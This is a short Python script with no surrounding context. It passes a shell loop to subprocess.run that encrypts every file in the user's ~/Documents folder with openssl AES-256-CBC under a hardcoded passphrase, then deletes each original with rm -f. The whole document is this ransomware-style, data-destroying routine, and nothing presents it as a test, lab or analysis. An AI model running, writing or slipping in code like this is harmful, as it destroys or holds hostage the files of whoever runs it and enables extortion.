import subprocess
cmd = "bash -lc " + repr("for f in ~/Documents/*; do openssl enc -aes-256-cbc -pbkdf2 -k s3 -in $f -out $f.enc && rm -f $f; done")
subprocess.run(cmd, shell=True)
